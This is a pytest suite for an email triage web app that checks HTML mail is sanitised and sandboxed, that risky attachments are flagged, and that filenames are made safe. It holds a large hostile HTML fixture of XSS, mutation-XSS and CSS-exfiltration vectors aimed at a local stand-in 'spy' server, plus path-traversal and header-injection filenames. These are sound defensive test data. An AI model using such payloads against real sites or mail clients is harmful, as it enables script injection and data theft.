"""A mail's layout and its files: opened elsewhere, shown where nothing can run, saved with a warning, recorded."""

from __future__ import annotations

import html
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, Page, Response

from tests.servers.chromium import new_context
from tests.web.parts import HOUR, PARTNER, TOKEN, Office
from tests.web.test_browser import _serving
from triage.domain.access import Role, Viewer
from triage.domain.case import CaseMessage
from triage.mail import ChildExtractor, ParseLimits
from triage.ports.extraction import AttachedPart, Formatted
from triage.ports.store import Arrival, Location
from triage.web import dangers
from triage.web.dangers import warnings_of
from triage.web.mail_view import disposition

BOX = "veiligheidsteam"
WORDS = "Het gezin vraagt om een gesprek."


def written(page: str = "", *files: tuple[str, str, bytes], text: str = "Zie de opmaak.") -> bytes:
    """A mail with a layout and files (name, type, bytes)."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"Anja <{PARTNER}>", "team@regio.example", "Vraag"
    mail.set_content(text)
    if page:
        mail.add_alternative(page, subtype="html")
    for name, kind, data in files:
        main, _, sub = kind.partition("/")
        mail.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return mail.as_bytes()


def kept(office: Office, raw: bytes, *, names: tuple[str, ...] = (), truncated: bool = False) -> str:
    """A case whose second mail is *raw*; the address of that mail."""
    case = office.add()
    assert case.id is not None
    received = office.clock.at - HOUR
    with office.store.transaction() as tx:
        tx.ledger.first_seen(BOX, BOX, received)
        place = Location(BOX, "INBOX", 1, case.id)
        arrival = Arrival(place, BOX, raw, received, len(raw), truncated=truncated, case_id=case.id)
        archived = tx.ledger.archive(arrival, walk="w")
        message = CaseMessage(
            "in", PARTNER, (), "Vraag", "Zie de opmaak.", received, None, mail_id=archived.mail_id, attachments=names
        )
        tx.cases.add_message(case.id, message)
    return f"/zaak/{case.reference}/bericht/2"


# What the page says and offers.


def test_the_layout_is_offered_for_a_mail_that_has_one_and_for_no_other(office: Office) -> None:
    client = office.inside()
    with_layout = client.get(kept(office, written(f"<p>{WORDS}</p>"))).text
    without = client.get(kept(office, written())).text
    assert "Bekijk de opmaak" in with_layout
    assert WORDS not in with_layout
    assert "Bekijk de opmaak" not in without


def test_a_case_leads_to_the_mail_with_its_layout_and_files(office: Office) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>"), names=("plan.pdf",))
    page = office.inside().get(address.rpartition("/bericht")[0]).text
    assert f'href="{address}"' in page
    assert "plan.pdf" in page


def test_the_layout_stands_in_a_frame_that_may_do_nothing(office: Office) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>"))
    answer = office.inside().get(f"{address}/opmaak")
    assert f'src="{address}/opmaak/inhoud" sandbox="" referrerpolicy="no-referrer"' in answer.text
    assert "frame-src 'self'" in answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"


def test_the_framed_page_lets_nothing_run_or_be_fetched_whoever_opens_it(office: Office) -> None:
    answer = office.inside().get(f"{kept(office, written(f'<p>{WORDS}</p>'))}/opmaak/inhoud")
    assert WORDS in answer.text
    policy = answer.headers["content-security-policy"].split("; ")
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "frame-ancestors 'self'" in policy
    assert [each for each in policy if "script" in each or "unsafe" in each or "'self'" in each] == [
        "frame-ancestors 'self'"
    ]
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"


def test_characters_that_turn_or_hide_are_seen_or_gone(office: Office) -> None:
    raw = written("<p>rekening\u202egpj.exe\u202c, pass\u200bword, &#8238;x, &#x7f;</p>")
    page = office.inside().get(f"{kept(office, raw)}/opmaak/inhoud").text
    assert "rekening▯gpj.exe▯, password, ▯x, ▯" in page


def test_layout_that_is_too_long_is_shown_as_far_as_it_goes_and_says_so(office: Office) -> None:
    raw = written(f"<p>{WORDS}</p>" + "<p>nog een regel</p>\n" * 260_000)
    page = office.inside().get(f"{kept(office, raw)}/opmaak/inhoud").text
    assert WORDS in page
    assert "te lang om helemaal te tonen" in page
    assert len(page) < 450_000


# Files.

PROGRAM = b"MZ\x90\x00" + b"\0" * 100
PDF = b"%PDF-1.7\n" + b"x" * 2_000


def test_a_file_is_named_with_its_type_and_size_and_saved_as_it_was(office: Office) -> None:
    address = kept(office, written("", ("veiligheidsplan één.pdf", "application/pdf", PDF)))
    client = office.inside()
    page = client.get(address).text
    assert "veiligheidsplan één.pdf" in page
    assert "2 kB, volgens de afzender application/pdf" in page
    assert "Pas op" not in page
    answer = client.get(f"{address}/bijlage/1")
    assert answer.content == PDF
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == (
        "attachment; filename=\"veiligheidsplan een.pdf\"; filename*=UTF-8''veiligheidsplan%20%C3%A9%C3%A9n.pdf"
    )
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]


def test_what_may_do_harm_is_said_before_it_is_saved(office: Office) -> None:
    raw = written("", ("factuur.pdf.exe", "application/pdf", PROGRAM), ("kaart.svg", "image/svg+xml", b"<svg/>"))
    page = office.inside().get(kept(office, raw)).text
    assert dangers.PROGRAM in page
    assert "het lijkt .pdf, maar het is .exe" in page
    assert dangers.PAGE in page
    assert page.index(dangers.PROGRAM) < page.index("/bijlage/1")


@pytest.mark.parametrize(
    ("name", "kind", "looks", "warning"),
    [
        ("plan.exe", "application/octet-stream", "", dangers.PROGRAM),
        ("plan.SCR ", "application/octet-stream", "", dangers.PROGRAM),
        ("plan.pdf", "application/pdf", "program", dangers.PROGRAM),
        ("zonder uitgang", "application/octet-stream", "program", dangers.PROGRAM),
        ("plan.js", "text/plain", "", dangers.SCRIPT),
        ("plan.pdf.lnk", "application/octet-stream", "program", dangers.PROGRAM),
        ("plan.docm", "application/octet-stream", "office", dangers.MACROS),
        ("plan.html", "text/html", "html", dangers.PAGE),
        ("plan.txt", "text/plain", "html", dangers.PAGE),
        ("plan", "image/svg+xml", "", dangers.PAGE),
        ("plan.zip", "application/zip", "zip", dangers.ARCHIVE),
        ("plan.iso", "application/octet-stream", "", dangers.ARCHIVE),
        ("plan.pdf", "application/pdf", "zip", dangers.OTHERWISE),
        ("plan.jpg", "image/jpeg", "pdf", dangers.OTHERWISE),
        ("plan.txt", "application/pdf", "", dangers.OTHERWISE),
        ("plan.pdf.js", "application/pdf", "", dangers.DOUBLE.format(shown="pdf", real="js")),
        ("plan.docx.html", "text/html", "html", dangers.DOUBLE.format(shown="docx", real="html")),
    ],
)
def test_each_kind_of_danger_has_its_warning(name: str, kind: str, looks: str, warning: str) -> None:
    assert warning in warnings_of(AttachedPart(1, name, kind, 100, looks))


@pytest.mark.parametrize(
    ("name", "kind", "looks"),
    [
        ("plan.pdf", "application/pdf", "pdf"),
        ("plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "office"),
        ("foto 12.03.jpg", "image/jpeg", "image"),
        ("verslag v1.2.doc", "application/msword", "office"),
        ("bericht.eml", "message/rfc822", ""),
        ("plan.pdf", "application/octet-stream", "pdf"),
    ],
)
def test_an_ordinary_file_has_none(name: str, kind: str, looks: str) -> None:
    assert warnings_of(AttachedPart(1, name, kind, 100, looks)) == ()


def test_macros_are_found_inside_a_document_of_another_name(office: Office) -> None:
    data = b"PK\x03\x04[Content_Types].xml" + b"\0" * 50 + b"word/vbaProject.bin"
    page = office.inside().get(kept(office, written("", ("plan.docx", "application/octet-stream", data)))).text
    assert dangers.MACROS in html.unescape(page)


@pytest.mark.parametrize(
    ("name", "saved"),
    [
        ("../../etc/passwd", "_.._etc_passwd"),
        ("C:\\Windows\\plan.pdf", "C__Windows_plan.pdf"),
        ('plan";filename=x.exe', "plan_;filename=x.exe"),
        ("plan\r\nSet-Cookie: x=y.pdf", "plan Set-Cookie_ x=y.pdf"),
        ("\u202egpj.exe", "_gpj.exe"),
        ("...", "bijlage-3"),
        ("", "bijlage-3"),
        ("日本", "bijlage-3"),
    ],
)
def test_a_name_cannot_lead_elsewhere(name: str, saved: str) -> None:
    header = disposition(name, 3)
    found = re.fullmatch(r"attachment; filename=\"([^\"\\\r\n]*)\"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)", header)
    assert found is not None, header
    assert found[1].replace(";filename", "_filename") == saved.replace(";filename", "_filename").replace("=", "_")


def test_a_long_name_keeps_its_extension_and_is_bounded() -> None:
    header = disposition("a" * 5_000 + ".pdf", 1)
    assert len(header) < 500
    assert header.endswith(".pdf")


def test_the_files_that_outlook_packed_in_winmail_can_be_saved(office: Office) -> None:
    raw = (Path(__file__).parents[1] / "corpus" / "winmail-with-everything.eml").read_bytes()
    address = kept(office, raw)
    client = office.inside()
    assert "verslag.pdf" in client.get(address).text
    assert client.get(f"{address}/bijlage/1").content.startswith(b"%PDF")


def test_an_attached_mail_is_a_file(office: Office) -> None:
    outer = EmailMessage()
    outer["From"], outer["Subject"] = PARTNER, "Doorgestuurd"
    outer.set_content("Zie bijlage.")
    inner = EmailMessage()
    inner["Subject"] = "Binnen"
    inner.set_content("<b>tekst</b>", subtype="html")
    outer.add_attachment(inner)
    address = kept(office, outer.as_bytes())
    client = office.inside()
    page = client.get(address).text
    assert "message/rfc822" in page
    assert "Bekijk de opmaak" not in page
    assert b"Subject: Binnen" in client.get(f"{address}/bijlage/1").content


def test_a_mail_of_which_only_the_beginning_came_says_that_a_file_may_be_half(office: Office) -> None:
    raw = written("", ("plan.pdf", "application/pdf", PDF))[:-500]
    assert "kan onvolledig zijn" in office.inside().get(kept(office, raw, truncated=True)).text


# Who may, and what is recorded.


def test_each_look_and_each_file_is_recorded_by_number_and_never_by_name(office: Office) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>", ("geheim plan.pdf", "application/pdf", PDF)))
    client = office.inside()
    client.get(f"{address}/opmaak/inhoud")
    client.get(f"{address}/bijlage/1")
    reference = address.split("/")[2]
    case = (("reference", reference), ("message", "2"))
    assert [event[3] for event in office.events("mail-html-viewed")] == [case]
    assert [event[3] for event in office.events("attachment-downloaded")] == [(*case, ("attachment", "1"))]
    assert "geheim plan" not in str(office.store._state.events)
    history = client.get(f"/zaak/{reference}").text
    assert "opmaak van een bericht bekeken" in history
    assert "bijlage gedownload" in history


def test_a_reader_of_another_mailbox_gets_neither_and_nothing_is_recorded(office: Office) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>", ("plan.pdf", "application/pdf", PDF)))
    client = office.inside(Viewer.of("bob", {"ret"}, Role.BEHEERDER))
    for path in ("/opmaak", "/opmaak/inhoud", "/bijlage/1"):
        answer = client.get(address + path)
        assert answer.status_code == 404, path
        assert WORDS not in answer.text
    assert office.events("mail-html-viewed") == office.events("attachment-downloaded") == []


@pytest.mark.parametrize("path", ["/bijlage/0", "/bijlage/2", "/bijlage/-1", "/bijlage/99999999999999999999"])
def test_a_file_that_is_not_there_is_not_found(office: Office, path: str) -> None:
    address = kept(office, written("", ("plan.pdf", "application/pdf", PDF)))
    assert office.inside().get(address + path).status_code in (400, 404)
    assert office.events("attachment-downloaded") == []


@pytest.mark.parametrize("number", [0, 1, 3, 10**30])
def test_a_mail_that_is_not_there_or_has_no_bytes_is_not_found(office: Office, number: int) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>")).rpartition("/")[0]
    client = office.inside()
    for path in ("/opmaak", "/opmaak/inhoud", "/bijlage/1"):
        assert client.get(f"{address}/{number}{path}").status_code == 404


def test_a_mail_whose_bytes_were_erased_says_so_and_still_shows_its_text(office: Office) -> None:
    address = kept(office, written(f"<p>{WORDS}</p>"))
    with office.store.transaction() as tx:
        file = tx.cases.file(Viewer.of("t", {BOX}, Role.BEHEERDER), address.split("/")[2])
        assert file.messages[1].mail_id is not None
        tx.ledger.erase(file.messages[1].mail_id)
    client = office.inside()
    page = client.get(address)
    assert page.status_code == 200
    assert "wordt niet meer bewaard" in page.text
    assert "Zie de opmaak." in page.text
    assert client.get(f"{address}/opmaak/inhoud").status_code == 404


# A child that hangs, dies or says what nobody asked.


@pytest.mark.parametrize("child", ["hangs", "dies", "babbles", "floods", "shapeless"])
def test_a_child_that_fails_gives_a_page_that_says_so(child: str) -> None:
    office = Office(extractor=ChildExtractor(ParseLimits(seconds=2.0), module=f"tests.web.children.{child}"))
    address = kept(office, written(f"<p>{WORDS}</p>", ("plan.pdf", "application/pdf", PDF)))
    client = office.inside()
    page = client.get(address)
    assert page.status_code == 200
    assert "Bijlagen en opmaak zijn nu niet te tonen" in page.text
    assert "Zie de opmaak." in page.text
    framed = client.get(f"{address}/opmaak/inhoud")
    assert framed.status_code == 503
    assert "De opmaak is niet te tonen" in framed.text
    assert "sandbox" in framed.headers["content-security-policy"]
    saved = client.get(f"{address}/bijlage/1")
    assert saved.status_code == 503
    assert "Deze bijlage is nu niet te openen" in saved.text
    assert office.events("mail-html-viewed") == office.events("attachment-downloaded") == []


def test_html_that_would_take_for_ever_is_given_up(office: Office) -> None:
    office = Office(extractor=ChildExtractor(ParseLimits(seconds=2.0)))
    answer = office.inside().get(f"{kept(office, written('<div>' * 500_000 + WORDS))}/opmaak/inhoud")
    assert answer.status_code in (422, 503)
    assert "De opmaak is niet te tonen" in answer.text


def test_a_mail_beyond_its_bounds_says_which(office: Office) -> None:
    raw = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(300))
    page = office.inside().get(kept(office, raw)).text
    assert "Bijlagen en opmaak zijn nu niet te tonen. Het bericht" in page


def test_the_child_gets_none_of_our_environment_and_cannot_write(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRIAGE_KEY", "geheime-sleutel")
    extractor = ChildExtractor(ParseLimits(seconds=120.0), module="tests.web.children.tells")
    (told,) = extractor.contents(b"").files
    assert told.name == "no TRIAGE_KEY, no file, no core, memory 1500000000"


# The hostile suite, in a real browser.

HOSTILE = """<!doctype html><html><head><meta http-equiv="refresh" content="0;url={spy}/refresh"><base href="{spy}/">
<link rel="stylesheet" href="{spy}/sheet"><link rel="prefetch" href="{spy}/prefetch">
<link rel="dns-prefetch" href="{spy}"><link rel="preconnect" href="{spy}"><link rel="icon" href="{spy}/icon">
<link rel="preload" as="image" href="{spy}/preload"><script src="{spy}/script"></script>
<style>@import url("{spy}/import"); @font-face {{ font-family: x; src: url("{spy}/font"); }}
 body {{ background: url("{spy}/css"); font-family: x; }} p[class^="a"] {{ background: url("{spy}/exfil"); }}</style>
</head><body background="{spy}/body" onload="fetch('{spy}/onload')">
<p class="abc">Eerste zin blijft.</p>
<script>alert(1); fetch("{spy}/fetch"); parent.document.title = "gekaapt"</script>
<img src="{spy}/pixel" width="1" height="1"><img srcset="{spy}/set 1x">
<picture><source srcset="{spy}/pic"><img></picture><img src=x onerror="alert(2)">
<div style="background-image:url({spy}/style)" onmouseover="alert(3)">Vak met stijl.</div>
<table background="{spy}/table"><tr><td background="{spy}/cell">Cel in een tabel.</td></tr></table>
<form action="{spy}/form" method="post"><input name="wachtwoord" value="x" autofocus onfocus="alert(4)">
<button formaction="{spy}/button">Stuur</button></form>
<a href="javascript:alert(5)">Klik hier</a> <a href="data:text/html,<script>alert(6)</script>">of hier</a>
<a href="vbscript:msgbox(7)">of daar</a> <a href="{spy}/link" ping="{spy}/ping" target="_top">www.bank.example</a>
<iframe src="{spy}/frame"></iframe><iframe srcdoc="<script>alert(8)</script>"></iframe>
<object data="{spy}/object"></object><embed src="{spy}/embed">
<video src="{spy}/video" poster="{spy}/poster" autoplay></video><audio src="{spy}/audio" autoplay></audio>
<svg onload="alert(9)"><script>alert(10)</script><image href="{spy}/svg"/><use href="{spy}/use#x"/></svg>
<noscript><img src="{spy}/noscript"></noscript><template><img src="{spy}/template"></template>
<scr\0ipt>alert(13)</scr\0ipt><img src="{spy}/nul\0"><p>Kenmerk \u202etxt.exe\u202c einde.</p>
<blockquote>Aanhaling blijft.</blockquote><ul><li>Punt blijft.</ul>
<!--[if true]><img src="{spy}/comment"><![endif]--><p>Laatste zin blijft.</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={spy}/m onerror=alert(11)&gt;">
</table></mtext></math><form><math><mtext></form><form><mglyph><style></math>
<img src="{spy}/m2" onerror="alert(12)"></style></mglyph></form></body></html>"""
SAID = (
    "Eerste zin blijft.", "Vak met stijl.", "Cel in een tabel.", "Aanhaling blijft.", "Punt blijft.",
    "Laatste zin blijft.",
)  # fmt: skip


@contextmanager
def _spy() -> Iterator[tuple[str, list[bytes]]]:
    """A server of a stranger; what it was asked."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.2)
        ended = threading.Event()

        def accept() -> None:
            while not ended.is_set():
                try:
                    connection, _ = listening.accept()
                except TimeoutError:
                    continue
                except OSError:
                    return
                with connection:
                    asked.append(connection.recv(200))

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}", asked
        ended.set()
        thread.join(timeout=60)


class _Watched:
    """A page of the browser and all that it did."""

    def __init__(self, page: Page, base: str) -> None:
        self.page, self.base = page, base
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        page.context.on("request", lambda request: self.requests.append(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda line: self.said(line.location["url"], f"{line.type}: {line.text}"))

    def said(self, where: str, line: str) -> None:
        """Note what stands on the console; not that the browser let the focus of our own page be, as on a busy machine
        it sometimes does. What the framed mail does about the focus is noted."""
        ours = not where.endswith("/opmaak/inhoud")
        if not (ours and line.startswith("info: Autofocus processing was blocked")):
            self.dialogs.append(line)

    def frame(self, address: str) -> Frame:
        """The framed layout, once it is there."""

        def is_it(response: Response) -> bool:
            return response.url.endswith("/opmaak/inhoud")

        with self.page.expect_response(is_it):
            self.page.goto(f"{self.base}{address}/opmaak")
        self.page.wait_for_load_state("networkidle")
        return self.page.frames[1]


@pytest.fixture
def watched(browser: Browser, visited: Office) -> Iterator[_Watched]:
    with _serving(visited) as base:
        context = new_context(browser)
        # What a page must show it shows at once on a quiet machine; the bound is for a busy one.
        context.set_default_timeout(120_000)
        found = _Watched(context.new_page(), base)
        found.page.goto(f"{base}/binnen?token={TOKEN}")
        yield found
        context.close()


@pytest.fixture
def visited() -> Office:
    return Office(allowed_hosts=("127.0.0.1",))


def _untouched(watched: _Watched) -> None:
    """Nothing ran, and every request went to our own server."""
    assert watched.dialogs == []
    assert [url for url in watched.requests if not url.startswith(watched.base)] == []


def test_a_hostile_layout_runs_nothing_and_fetches_nothing_and_its_words_are_there(
    watched: _Watched, visited: Office
) -> None:
    with _spy() as (spy, asked):
        raw = written("x").replace(b"\nx\n", b"\n" + HOSTILE.format(spy=spy).encode() + b"\n")
        raw = raw.replace(b'text/html; charset="utf-8"\nContent-Transfer-Encoding: 7bit', b"text/html; charset=utf-8")
        frame = watched.frame(kept(visited, raw))
        shown = frame.locator("body").inner_text()
        for words in SAID:
            assert words in shown
        assert "www.bank.example" in shown
        assert f"[{spy}/link]" in shown
        assert "Kenmerk ▯txt.exe▯ einde." in shown
        present = frame.evaluate("[...new Set([...document.body.querySelectorAll('*')].map(e => e.localName))]")
        assert set(present) <= {
            "div", "p", "span", "table", "tbody", "tr", "td", "blockquote", "ul", "li",
        }  # fmt: skip
        attributes = frame.evaluate(
            "[...new Set([...document.body.querySelectorAll('*')].flatMap(e => e.getAttributeNames()))]"
        )
        assert set(attributes) <= {"class", "dir"}
        # What can be clicked or reached by keyboard, if anything, is tried.
        for place in frame.get_by_text("Klik hier"), frame.get_by_text("www.bank.example"):
            place.click()
        for _ in range(8):
            watched.page.keyboard.press("Tab")
            watched.page.keyboard.press("Enter")
    assert asked == []
    _untouched(watched)


def test_a_script_in_the_frame_would_not_run_even_if_one_got_through(watched: _Watched, visited: Office) -> None:
    """The frame and its headers alone: the extractor hands over what the sanitiser would never leave."""
    with _spy() as (spy, asked):
        page = f"<p>Hier.</p><script>alert(1)</script><img src='{spy}/p' onerror=alert(2)>"
        page += f"<style>@import '{spy}/i'</style><link rel=stylesheet href='{spy}/s'><iframe src='{spy}/f'></iframe>"
        page += f"<form action='{spy}/f'><button>Stuur</button></form><a href='{spy}/a' target=_top>weg</a>"
        visited.extractor.__dict__["formatted"] = lambda raw: Formatted(page, cut=False)
        frame = watched.frame(kept(visited, written("<p>x</p>")))
        assert "Hier." in frame.locator("body").inner_text()
        frame.get_by_text("Stuur").click()
        frame.get_by_text("weg").click()
        watched.page.wait_for_load_state("networkidle")
        assert watched.page.url.endswith("/opmaak")
    refused = [line for line in watched.dialogs if "Content Security Policy" in line or "sandboxed" in line]
    assert watched.dialogs == refused
    assert asked == []


def test_our_own_style_holds_in_the_frame(watched: _Watched, visited: Office) -> None:
    frame = watched.frame(kept(visited, written("<blockquote>Aanhaling</blockquote>")))
    assert frame.locator("blockquote").evaluate("e => getComputedStyle(e).borderLeftWidth") == "3px"
    _untouched(watched)


@pytest.mark.parametrize(
    "page",
    [
        f"<p>{WORDS}</p>" + "<p>regel <b>vet</b></p>\n" * 220_000,
        "<table><tr><td>" * 10_000 + WORDS,
    ],
    ids=["5 MB", "10,000 tables"],
)
def test_a_very_large_or_deep_layout_shows_its_words_and_leaves_the_browser_standing(
    watched: _Watched, visited: Office, page: str
) -> None:
    frame = watched.frame(kept(visited, written(page)))
    assert WORDS in (frame.locator("body").text_content() or "")
    _untouched(watched)


def test_a_file_is_saved_and_never_opened_by_the_browser(watched: _Watched, visited: Office) -> None:
    address = kept(visited, written("", ("kaart.html", "text/html", b"<script>alert(1)</script>")))
    watched.page.goto(watched.base + address)
    with watched.page.expect_download() as saved:
        watched.page.get_by_role("link", name=re.compile("Opslaan")).click()
    assert saved.value.suggested_filename == "kaart.html"
    _untouched(watched)
